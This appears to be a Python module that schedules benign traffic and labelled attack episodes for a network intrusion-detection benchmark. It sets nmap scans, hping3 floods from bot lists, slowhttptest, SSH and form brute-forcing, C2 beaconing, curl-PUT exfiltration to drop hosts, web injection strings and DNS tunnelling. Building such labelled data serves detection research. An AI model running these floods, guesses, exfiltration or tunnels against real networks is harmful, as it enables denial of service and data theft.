"""The order of the day: who acts when, in which half, and how his flows are known.

Always true
  - Every family comes in both halves by the same kinds of attack, with other hosts, rates and options: a split by time
    asks whether an episode is recognised, not whether an attack that was never seen is.
  - `parts()` is in the order of the labels within attacks and within benign work: the special before the general.
  - Times are shares of a half.
"""

from __future__ import annotations

from bench.lab import actors as do
from bench.lab.actors import BROWSERS
from bench.lab.stage import ICMP, ICMP6, TCP, UDP, Act, Part, Rule
from bench.lab.topology import BOTS, HOSTS, INSIDE, RESOLVER

WEB, TLS, SSH, DNS = [80, 80], [443, 443], [22, 22], [53, 53]
APP = [8080, 8080]


def ip(name: str) -> str:
    return HOSTS[name].ip


def v4(*names: str) -> list[str]:
    return [f"{HOSTS[name].ip}/32" for name in names]


def both(*names: str) -> list[str]:
    """IPv4 and, where a host has it, IPv6."""
    return [*v4(*names), *(f"{six}/128" for name in names if (six := HOSTS[name].ip6))]


# fmt: off
def benign(half: int) -> list[Part]:
    """The ordinary day, the same kind of work in both halves."""

    def part(name: str, begin: float, end: float, act: Act, text: str, *rules: Rule, whole_half: bool = False) -> Part:
        return Part(f"{name}-{half}", half, "Normal", begin, end, act, rules, text, whole_half)

    everyone = both("ws1", "ws2", "ws3", "ws4", "ws5", "ws6", "ws7", "ws8")
    backup_at, rush_at = ((0.72, 0.93), (0.45, 0.55)) if half == 1 else ((0.12, 0.33), (0.62, 0.72))
    chosen = [
        part("backup", *backup_at, do.backup,
             "nightly backup: curl PUT over https and rsync over ssh to a provider outside (looks like exfiltration)",
             Rule(v4("files"), v4("cloud"), TCP, [SSH, TLS])),
        part("rush", *rush_at, do.rush, "many customers at once, curl (looks like a flood)",
             Rule(v4("remote1", "remote2", "remote3"), v4("web"), TCP, [WEB])),
        part("heartbeat", 0.01, 0.99, do.heartbeat, "update agents report every 5 s, curl (looks like a beacon)",
             Rule(v4("ws2", "ws6"), v4("mirror"), TCP, [WEB])),
        part("slow-upload", 0.2, 0.6, do.slow_upload, "curl PUT at 3 kB/s (looks like a slow-body attack)",
             Rule(v4("remote2"), v4("web"), TCP, [WEB])),
        part("monitor", 0.0, 0.99, do.monitor, "nc -z, ping, curl, dig from one host every 14 s (looks like a scan)",
             Rule(both("monitor"), None), whole_half=True),
        part("clocks", 0.0, 0.99, do.clocks, "chronyd, poll 16 s",
             Rule(None, v4("ntp"), UDP, [[123, 123]]), whole_half=True),
        part("speed", 0.3, 0.45, do.speed_test, "iperf3, TCP both ways and UDP, rate-limited",
             Rule(v4("ws2"), v4("speed"), None, [[5201, 5201]])),
        part("shell", 0.02, 0.98, do.shell_work, "ssh, scp, rsync with a key, now and then a mistyped password",
             Rule(v4("dev"), None, TCP, [SSH])),
        part("download", 0.05, 0.9, do.downloads, "curl, 22 and 90 kB", Rule(v4("ws3"), v4("mirror"), TCP, [WEB])),
        part("upload", 0.05, 0.9, do.uploads, "curl PUT over https", Rule(v4("ws4"), v4("cloud"), TCP, [TLS])),
        part("ping6", 0.1, 0.9, do.ping6, "ping over IPv6", Rule(both("ws2"), both("site"), ICMP6)),
        part("names", 0.0, 0.98, do.names,
             "dig, and the names that curl asks for; some long hashed CDN names; the resolver's own queries",
             Rule(everyone, both("dns"), UDP, [DNS]), Rule(v4("dns"), v4("udns"), UDP, [DNS]), whole_half=True),
    ]
    for host, pause_s in (("ws1", 9), ("ws2", 12), ("ws3", 11), ("ws4", 12), ("ws5", 22), ("ws6", 22)):
        chosen.append(part(f"browse-{host}", 0.0, 0.98, do.browse(host, pause_s), "curl, pages with keep-alive",
                           Rule(both(host), None, TCP, [WEB, TLS])))
    for host, pause_s in (("remote1", 11), ("remote2", 14), ("remote3", 16)):
        chosen.append(part(f"visit-{host}", 0.0, 0.98, do.browse(host, pause_s), "curl, a customer from outside",
                           Rule(both(host), both("web"), TCP, [WEB, TLS])))
    return chosen


def attacks_1() -> list[Part]:
    def part(episode: str, family: str, begin: float, end: float, act: Act, text: str, *rules: Rule) -> Part:
        return Part(episode, 1, family, begin, end, act, rules, text)

    bots = [f"{bot}/32" for bot in BOTS[:24]]
    web_tools = do.web_attack("hack1", f"http://{ip('web')}", "sqlmap/1.7.2#stable", ("sqli", "traversal", "xss"), 48)
    return [
        part("portscan-syn-1", "PortScan", 0.04, 0.14,
             do.nmap("scan1", f"-sS -T4 --top-ports {{n}} {ip('web')}"), "nmap -sS -T4 --top-ports 100",
             Rule(v4("scan1"), v4("web"), TCP)),
        part("portscan-udp-1", "PortScan", 0.15, 0.24,
             do.nmap("scan1", f"-sU --max-retries 0 --top-ports {{few}} {ip('app')}"), "nmap -sU --top-ports 24",
             Rule(v4("scan1"), v4("app"), UDP)),
        part("portscan-slow-1", "PortScan", 0.3, 0.65,
             do.nmap("scan1", f"-sS --scan-delay 2s --max-retries 0 --top-ports {{few}} {ip('db')}"),
             "nmap -sS --scan-delay 2s, 24 ports", Rule(v4("scan1"), v4("db"), TCP)),
        part("lateral-1", "PortScan", 0.78, 0.9, do.lateral("ws5", (22, 445, 3389), "nmap"),
             "nmap -sT from an infected workstation, 22, 445, 3389 on 11 inside hosts",
             Rule(v4("ws5"), [INSIDE], TCP, [SSH, [445, 445], [3389, 3389]])),
        part("synflood-1", "DDoS", 0.55, 0.65,
             do.flood(BOTS[:24], "-S", "-p", "80", "-c", "8", "-i", "u40000", ip("web")),
             "hping3 -S to port 80 from 24 bots, 8 packets each, 25 a second", Rule(bots, v4("web"), TCP, [WEB])),
        part("udpflood-1", "DDoS", 0.27, 0.33,
             do.flood(BOTS[:12], "--udp", "-p", "123", "-d", "120", "-c", "8", "-i", "u30000", ip("files")),
             "hping3 --udp to port 123 from 12 bots, 8 packets each, 33 a second",
             Rule(bots, v4("files"), UDP, [[123, 123]])),
        part("pingflood-1", "DDoS", 0.86, 0.92,
             do.flood(BOTS[12:24], "--icmp", "-d", "48", "-c", "20", "-i", "u20000", ip("web")),
             "hping3 --icmp from 12 bots, 20 packets each", Rule(bots, v4("web"), ICMP)),
        part("slowloris-1", "DoS", 0.16, 0.36,
             do.slow("slow1", "-H", "-i", "4", "-r", "12", "-t", "GET", "-x", "24", "-p", "3",
                     "-u", f"http://{ip('web')}/"),
             "slowhttptest -H, 44 connections, a header line every 4 s", Rule(v4("slow1"), v4("web"), TCP, [WEB])),
        part("slowbody-1", "DoS", 0.62, 0.84,
             do.slow("slow1", "-B", "-i", "4", "-r", "12", "-s", "4096", "-x", "16", "-p", "3",
                     "-u", f"http://{ip('app')}:8080/login"),
             "slowhttptest -B, 44 connections, a piece of the body every 4 s",
             Rule(v4("slow1"), v4("app"), TCP, [APP])),
        part("synflood-one-1", "DoS", 0.88, 0.95, do.syn_flood("slow1", ip("db"), 22),
             "hping3 -S from one source, 60 packets to port 22", Rule(v4("slow1"), v4("db"), TCP, [SSH])),
        part("hammer-1", "DoS", 0.40, 0.5, do.hammer("slow1", f"http://{ip('web')}/search", 50),
             "curl, 50 requests as fast as 5 at once can", Rule(v4("slow1"), v4("web"), TCP, [WEB])),
        part("ssh-guess-1", "BruteForce", 0.25, 0.45, do.brute_ssh("brute1", ip("files"), 40, 3, 0.3),
             "sshpass with ssh, 40 wrong passwords, 3 at once", Rule(v4("brute1"), v4("files"), TCP, [SSH])),
        part("form-guess-1", "BruteForce", 0.6, 0.7, do.brute_form("brute1", f"http://{ip('app')}/login", 28),
             "curl POST /login, 28 wrong passwords", Rule(v4("brute1"), v4("app"), TCP, [WEB])),
        part("beacon-1", "C2", 0.1, 0.97,
             do.beacon("ws5", f"http://{ip('c2a')}/api/v2", 2.6, 0.3, "Mozilla/5.0 (Windows NT 6.1)"),
             "curl over http every 2.6 s, jitter 30 %", Rule(v4("ws5"), v4("c2a"), TCP, [WEB])),
        part("exfil-1", "Exfiltration", 0.66, 0.96,
             do.exfiltrate("ws5", f"http://{ip('drop1')}", 24, (4_000, 26_000), "curl/7.88.1", 1.6),
             "curl PUT over http, 24 files of 2-26 kB", Rule(v4("ws5"), v4("drop1"), TCP, [WEB])),
        part("exfil-tls-1", "Exfiltration", 0.3, 0.6,
             do.exfiltrate("ws5", f"https://{ip('drop1')}", 20, (6_000, 24_000), "curl/7.88.1", 2.0),
             "curl PUT over https, 20 files of 3-12 kB", Rule(v4("ws5"), v4("drop1"), TCP, [TLS])),
        part("web-1", "WebAttack", 0.46, 0.75, web_tools, "curl: SQL injection, path traversal, XSS",
             Rule(v4("hack1"), v4("web"), TCP, [WEB])),
        part("dns-data-1", "DNSTunnel", 0.4, 0.6, do.dig_tunnel("ws7", RESOLVER, "d1.example", "A", 50),
             "dig A, base32 names through the resolver",
             Rule(v4("ws7"), v4("dns"), UDP, [DNS]), Rule(v4("dns"), ["203.0.113.98/32"], UDP, [DNS])),
        part("iodine-1", "DNSTunnel", 0.7, 0.82,
             do.iodine("ws7", ip("tun1"), "t1.example", "NULL", "203.0.113.241", 12, 10),
             "iodine -T NULL straight to its server", Rule(v4("ws7"), v4("tun1"), UDP, [DNS])),
    ]


def attacks_2() -> list[Part]:
    def part(episode: str, family: str, begin: float, end: float, act: Act, text: str, *rules: Rule) -> Part:
        return Part(episode, 2, family, begin, end, act, rules, text)

    bots = [f"{bot}/32" for bot in BOTS[24:]]
    web_tools = do.web_attack("hack2", f"http://{ip('app')}:8080", BROWSERS[0], ("xss", "command", "log4j", "sqli"), 50)
    version_scan = "-sV --version-light --script http-title,http-headers -p 22,80,443,8080"
    return [
        part("portscan-connect-2", "PortScan", 0.5, 0.6,
             do.nmap("scan2", f"-sT -T3 --top-ports {{n}} {ip('files')}"), "nmap -sT -T3 --top-ports 100",
             Rule(v4("scan2"), v4("files"), TCP)),
        part("portscan-xmas-2", "PortScan", 0.62, 0.7,
             do.nmap("scan2", f"-sX --max-retries 0 --top-ports {{few}} {ip('printer')}"), "nmap -sX, 24 ports",
             Rule(v4("scan2"), v4("printer"), TCP)),
        part("portscan-version-2", "PortScan", 0.72, 0.9,
             do.nmap("scan2", f"{version_scan} {ip('web')} {ip('app')}"),
             "nmap -sV with two http scripts, 4 ports on 2 hosts", Rule(v4("scan2"), v4("web", "app"), TCP)),
        part("portscan-slow-2", "PortScan", 0.1, 0.42,
             do.nmap("scan2", f"-sS --scan-delay 1300ms --max-retries 0 --top-ports {{few}} {ip('db')}"),
             "nmap -sS --scan-delay 1300ms, 24 ports", Rule(v4("scan2"), v4("db"), TCP)),
        part("lateral-2", "PortScan", 0.3, 0.45, do.lateral("ws6", (135, 445, 5985), "nc"),
             "nc -z from an infected workstation, 135, 445, 5985 on 11 inside hosts",
             Rule(v4("ws6"), [INSIDE], TCP, [[135, 135], [445, 445], [5985, 5985]])),
        part("udpflood-2", "DDoS", 0.18, 0.26,
             do.flood(BOTS[24:40], "--udp", "-p", "123", "-d", "160", "-c", "9", "-i", "u25000", ip("app")),
             "hping3 --udp to port 123 from 16 bots, 9 packets each, 40 a second",
             Rule(bots, v4("app"), UDP, [[123, 123]])),
        part("synflood-2", "DDoS", 0.45, 0.52,
             do.flood(BOTS[36:], "-S", "-p", "443", "-c", "7", "-i", "u60000", ip("web")),
             "hping3 -S to port 443 from 12 bots, 7 packets each", Rule(bots, v4("web"), TCP, [TLS])),
        part("pingflood-2", "DDoS", 0.8, 0.86,
             do.flood(BOTS[24:36], "--icmp", "-d", "56", "-c", "25", "-i", "u15000", ip("app")),
             "hping3 --icmp from 12 bots, 25 packets each", Rule(bots, v4("app"), ICMP)),
        part("slowbody-2", "DoS", 0.55, 0.78,
             do.slow("slow2", "-B", "-i", "3", "-r", "15", "-s", "8192", "-x", "10", "-p", "3",
                     "-u", f"http://{ip('app')}:8080/login"),
             "slowhttptest -B, 44 connections, a piece of the body every 3 s",
             Rule(v4("slow2"), v4("app"), TCP, [APP])),
        part("slowloris-2", "DoS", 0.3, 0.5,
             do.slow("slow2", "-H", "-i", "3", "-r", "20", "-t", "GET", "-x", "40", "-p", "3",
                     "-u", f"http://{ip('app')}:8080/"),
             "slowhttptest -H, 44 connections, a header line every 3 s", Rule(v4("slow2"), v4("app"), TCP, [APP])),
        part("hammer-2", "DoS", 0.08, 0.18, do.hammer("slow2", f"http://{ip('web')}/catalogue", 44),
             "curl, 44 requests as fast as 5 at once can", Rule(v4("slow2"), v4("web"), TCP, [WEB])),
        part("synflood-one-2", "DoS", 0.84, 0.92, do.syn_flood("slow2", ip("files"), 22),
             "hping3 -S from one source, 60 packets to port 22", Rule(v4("slow2"), v4("files"), TCP, [SSH])),
        part("ssh-guess-2", "BruteForce", 0.05, 0.35, do.brute_ssh("brute2", ip("db"), 36, 2, 1.5),
             "sshpass with ssh, 36 wrong passwords, 2 at once, slower", Rule(v4("brute2"), v4("db"), TCP, [SSH])),
        part("form-guess-2", "BruteForce", 0.4, 0.5, do.brute_form("brute2", f"http://{ip('app')}:8080/login", 24),
             "curl POST /login, 24 wrong passwords", Rule(v4("brute2"), v4("app"), TCP, [APP])),
        part("beacon-2", "C2", 0.02, 0.9, do.beacon("ws6", f"https://{ip('c2b')}:8443/api/v3", 3.4, 0.5, BROWSERS[1]),
             "curl over https to port 8443 every 3.4 s, jitter 50 %",
             Rule(v4("ws6"), v4("c2b"), TCP, [[8443, 8443]])),
        part("exfil-2", "Exfiltration", 0.1, 0.34,
             do.exfiltrate("ws6", f"http://{ip('drop2')}", 20, (5_000, 24_000), BROWSERS[1], 1.6),
             "curl PUT over http, 20 files of 2-24 kB", Rule(v4("ws6"), v4("drop2"), TCP, [WEB])),
        part("exfil-tls-2", "Exfiltration", 0.4, 0.8,
             do.exfiltrate("ws6", f"https://{ip('drop2')}", 24, (4_000, 24_000), BROWSERS[1], 2.2),
             "curl PUT over https, 24 files of 2-12 kB", Rule(v4("ws6"), v4("drop2"), TCP, [TLS])),
        part("web-2", "WebAttack", 0.68, 0.96, web_tools,
             "curl: XSS, command injection, Log4Shell strings, SQL injection",
             Rule(v4("hack2"), v4("app"), TCP, [APP])),
        part("dns-data-2", "DNSTunnel", 0.1, 0.3, do.dig_tunnel("ws8", "203.0.113.108", "d2.example", "TXT", 60),
             "dig TXT, base32 names straight to the server outside",
             Rule(v4("ws8"), ["203.0.113.108/32"], UDP, [DNS])),
        part("iodine-2", "DNSTunnel", 0.86, 0.93,
             do.iodine("ws8", RESOLVER, "t2.example", "TXT", "203.0.113.225", 8, 5),
             "iodine -T TXT through the resolver",
             Rule(v4("ws8"), v4("dns"), UDP, [DNS]), Rule(v4("dns"), v4("tun2"), UDP, [DNS])),
    ]
# fmt: on


def parts() -> list[Part]:
    return [*attacks_1(), *benign(1), *attacks_2(), *benign(2)]
